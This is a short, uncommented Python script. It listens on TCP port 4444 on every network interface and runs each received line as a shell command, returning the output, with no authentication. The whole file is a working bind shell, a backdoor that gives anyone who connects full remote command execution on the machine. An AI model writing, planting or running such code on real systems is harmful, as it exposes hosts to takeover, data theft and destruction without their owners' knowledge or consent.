import socketserver, subprocess
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            p = subprocess.Popen(line.decode().strip(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            self.wfile.write(p.communicate()[0])
def serve():
    socketserver.ThreadingTCPServer(("0.0.0.0", 4444), H).serve_forever()
